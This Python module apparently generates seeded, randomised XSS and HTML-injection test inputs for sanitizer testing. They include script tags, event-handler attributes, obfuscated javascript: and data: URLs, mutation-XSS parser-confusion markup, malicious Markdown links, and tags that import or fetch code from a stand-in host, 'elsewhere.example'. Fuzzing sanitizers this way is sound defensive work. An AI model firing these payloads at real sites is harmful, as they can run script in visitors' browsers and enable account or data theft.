"""Texts that try to become more than text: markup, addresses, Markdown, broken and nested and disguised, from a seed.

Each of them, were it believed, would call `alert` or ask a server elsewhere. Made here from parts; none is copied.
"""

from __future__ import annotations

import random
from collections.abc import Callable

ELSEWHERE = "//elsewhere.example"
TAGS = (
    "script img svg math iframe object embed video audio source track body html head style link meta base form input "
    "button textarea select option details dialog marquee table td div span p a template noscript title xmp plaintext "
    "listing noembed noframes frame frameset applet isindex keygen foreignObject animate set use image desc mtext mglyph "
    "annotation-xml malignmark picture portal slot x-own bgsound blink command menu summary area map param canvas"
).split()
EVENTS = (
    "load error click mouseover mouseenter focus focusin blur toggle animationstart animationend transitionend begin end "
    "repeat pointerover pointerrawupdate scroll wheel resize hashchange popstate pageshow beforetoggle message copy cut "
    "paste drag drop input change invalid submit reset select keydown auxclick canplay play loadstart unhandledrejection"
).split()
CALLS = (
    "alert(1)", "alert`1`", "(alert)(1)", "top['al'+'ert'](1)", "window.alert(1)", "self[`alert`]`1`", "eval('alert(1)')",
    "setTimeout('alert(1)')", "Function('alert(1)')()", "[1].map(alert)", "throw onerror=alert,1", "\\u0061lert(1)",
    "confirm(1)", "prompt(1)", "import('//elsewhere.example/x.js')", "fetch('//elsewhere.example/f')", "print()",
)  # fmt: skip
SCHEMES = ("javascript", "JaVaScRiPt", "vbscript", "data", "livescript", "jar", "view-source", "blob", "file", "feed")
CARRIES = (
    "src",
    "href",
    "xlink:href",
    "action",
    "formaction",
    "data",
    "srcset",
    "poster",
    "background",
    "srcdoc",
    "ping",
)
INVISIBLE = ("\t", "\n", "\x01", "\x00", "\x0b", "\u200b", "\u2028", "\xad", "\ufeff", "\u202e", "&Tab;", "&NewLine;")
SPACES = (" ", "/", "\t", "\n", "\f", "\r", "//", "/x/", "\x0c", " x ", "\xa0")


def hostile_texts(seed: int, many: int) -> list[str]:
    """`many` different texts."""
    chance, found = random.Random(seed), dict[str, None]()
    while len(found) < many:
        text = chance.choice(_KINDS)(chance)
        for _ in range(chance.choice((0, 0, 1, 1, 2, 3))):
            text = chance.choice(_WRAPS)(chance, text)
        if text.strip():
            found[text] = None
    return list(found)


def _element(chance: random.Random) -> str:
    tag, space = _case(chance, chance.choice(TAGS)), chance.choice(SPACES)
    given = [_attribute(chance) for _ in range(chance.randint(1, 3))]
    return f"<{tag}{space}{space.join(given)}{chance.choice(('>', '>', '/>', ' ', '<', '>x', f'></{tag}>'))}"


def _attribute(chance: random.Random) -> str:
    quote = chance.choice(('"', "'", "", "`"))
    kind = chance.random()
    if kind < 0.5:
        name, value = "on" + chance.choice(EVENTS), chance.choice(CALLS)
    elif kind < 0.75:
        name, value = (
            chance.choice(CARRIES),
            chance.choice((_address(chance), f"{ELSEWHERE}/{chance.randrange(10**6)}.png")),
        )
    elif kind < 0.9:
        name, value = (
            "style",
            chance.choice(
                (
                    f"background:url({ELSEWHERE}/s)",
                    f"animation:x;list-style:url('{ELSEWHERE}/l')",
                    "width:expression(alert(1))",
                )
            ),
        )
    else:
        name, value = chance.choice(("autofocus", "tabindex", "id", "is", "contenteditable", "open")), "1"
    return f"{_case(chance, name)}={quote}{_entities(chance, value)}{quote}"


def _address(chance: random.Random) -> str:
    scheme = chance.choice(SCHEMES)
    if chance.random() < 0.5:
        at = chance.randrange(len(scheme))
        scheme = scheme[:at] + chance.choice(INVISIBLE) + scheme[at:]
    body = chance.choice(CALLS)
    rest = (
        f"text/html,<script>{body}</script>"
        if "ata" in scheme
        else chance.choice((body, f"//%0a{body}", f"/*--></a>*/{body}"))
    )
    return (
        chance.choice(("", "", " ", "\x01", "\n"))
        + scheme
        + chance.choice((":", ":", "&colon;", "&#58;", "&#x3a;"))
        + rest
    )


def _script(chance: random.Random) -> str:
    call = chance.choice(CALLS)
    return chance.choice((
        f"<script>{call}</script>", f"<script >{call}</script >", f"<scr<script>ipt>{call}</scr</script>ipt>",
        f"<script src={ELSEWHERE}/s.js></script>", f"<script\x00>{call}</script>", f"<script/x>{call}</script\n>",
        f"<<script>{call}//<</script>", f"<script type=module>import '{ELSEWHERE}/m.js'</script>", f"<svg><script>{call}</script>",
        f"<script>{call}", f"</script><script>{call}</script>", f"<style>@import '{ELSEWHERE}/c.css';</style>",
        f"<link rel=stylesheet href={ELSEWHERE}/l.css>", f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/m'>",
        f"<base href={ELSEWHERE}/>", f"<iframe srcdoc='<script>{call}</script>'>", f"<link rel=prefetch href={ELSEWHERE}/p>",
    ))  # fmt: skip


def _mutant(chance: random.Random) -> str:
    """Markup that a careless parser and a browser read differently."""
    inner = f"<img src={ELSEWHERE}/{chance.randrange(10**6)} onerror={chance.choice(CALLS)}>"
    outer = chance.choice(TAGS)
    return chance.choice((
        f"<noscript><p title=\"</noscript>{inner}\">", f"<svg></p><style><a id=\"</style>{inner}\">",
        f"<math><mtext><table><mglyph><style><!--</style>{inner}-->", f"<!--><{outer}>{inner}-->", f"<!--{inner}",
        f"<{outer}><template><s><template><s>{inner}", f"<xmp><p title=\"</xmp>{inner}\">", f"<title><a title=\"</title>{inner}\">",
        f"<form><math><mtext></form><form><mglyph><style></math>{inner}", f"<![CDATA[{inner}]]>", f"<?x {inner}?>",
        f"<select><{outer}>{inner}", f"<table><{outer}>{inner}</table>", f"<svg><foreignObject><{outer}>{inner}",
        f"<a href=\"x{inner}\">", f"<{outer} title='>{inner}'>", f"<p id='\"'{inner}>", f"<{outer}\n{inner}", f"</{outer} {inner}>",
    ))  # fmt: skip


def _link(chance: random.Random) -> str:
    to = chance.choice(
        (_address(chance), f"http:{ELSEWHERE}/{chance.randrange(10**6)}", "https:evil", "//elsewhere.example")
    )
    mark = chance.choice(('"', "'", ")", "<", ">", "&quot;", "\\"))
    title = f' "{mark} on{chance.choice(EVENTS)}={chance.choice(CALLS)} {mark}"'
    label = chance.choice(("here", _element(chance), "![x](" + f"http:{ELSEWHERE}/i.png" + ")", "[a](b)", "`x`"))
    return chance.choice((
        f"[{label}]({to})", f"[{label}](<{to}>)", f"[{label}]({to}{title})", f"![{label}]({to})",
            f"![{label}](http:{ELSEWHERE}/p.gif)",
        f"<{to}>", f"[x]\n\n[x]: {to}{title}", f"[{label}]({to}{mark}on{chance.choice(EVENTS)}={chance.choice(CALLS)})", f"[{to}]",
    ))  # fmt: skip


def _case(chance: random.Random, word: str) -> str:
    return "".join(letter.upper() if chance.random() < 0.2 else letter for letter in word)


def _entities(chance: random.Random, value: str) -> str:
    if chance.random() < 0.7:
        return value
    ways: list[Callable[[str], str]] = [
        lambda c: f"&#{ord(c)};", lambda c: f"&#x{ord(c):x};", lambda c: f"&#{ord(c):07d}", lambda c: f"%{ord(c) % 256:02x}"
    ]  # fmt: skip
    return "".join(chance.choice(ways)(c) if chance.random() < 0.3 else c for c in value)


_MARKS = ("*", "**", "_", "`", "``", "~~", "```\n")
_KINDS: tuple[Callable[[random.Random], str], ...] = (_element, _element, _script, _mutant, _mutant, _link, _link)
_WRAPS: tuple[Callable[[random.Random, str], str], ...] = (
    lambda chance, text: "".join("> " * chance.randint(1, 4) + line + "\n" for line in text.split("\n")),
    lambda chance, text: "- " * chance.randint(1, 3) + text,
    lambda chance, text: (
        chance.choice(("*", "**", "_", "`", "``", "~~", "```\n"))
        + text
        + chance.choice(("*", "**", "_", "`", "\n```", ""))
    ),
    lambda _chance, text: f"[{text}](https://example.org/)",
    lambda chance, text: text + "\n" + _element(chance),
    lambda chance, text: text.replace(
        "<", chance.choice(("&lt;", "\\<", "<\x00", "＜", "<<", "%3C", "&#60", "\u202e<"))
    ),
    lambda chance, text: text[: chance.randrange(1, len(text) + 1)] + _link(chance),
    lambda chance, text: f"1. {text}\n2. {_mutant(chance)}",
    lambda chance, text: (
        f"</{chance.choice(('p', 'div', 'article', 'main', 'a', 'textarea', 'script', 'style'))}>{text}"
    ),
    lambda chance, text: text + chance.choice(INVISIBLE) + text[::-1],
)
